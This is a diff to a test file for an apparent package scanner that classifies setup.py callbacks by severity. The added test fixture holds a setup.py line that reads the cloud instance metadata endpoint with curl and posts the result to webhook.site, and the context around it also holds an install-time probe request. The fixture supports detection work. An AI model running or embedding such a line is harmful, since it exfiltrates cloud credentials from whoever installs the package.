@@ -1172,6 +1172,11 @@ fn a_callback_to_a_suspicious_host_at_install_or_import_is_a_beacon() {
     let dns_log =
         "import requests\nfrom setuptools import setup\nrequests.get('https://x1.probe.eyes.sh/')\nsetup(name='x')\n";
     assert_eq!(severity_of("setup.py", dns_log, "suspicious-callback"), Some(Severity::High));
+    // curl anywhere in a shell command line, not only as its first word.
+    let chained = "import os\nfrom setuptools import setup\n\
+                   os.system(\"t=$(curl -s http://169.254.169.254/latest/meta-data/); curl -X POST -d '$t' https://webhook.site/0000\")\n\
+                   setup(name='x')\n";
+    assert_eq!(severity_of("setup.py", chained, "suspicious-callback"), Some(Severity::High));
     // Asked for: a tool's function that posts to a webhook its user reads.
     let on_request =
         "import requests\ndef notify(msg):\n    requests.post('https://webhook.site/00000000-0000', data=msg)\n";
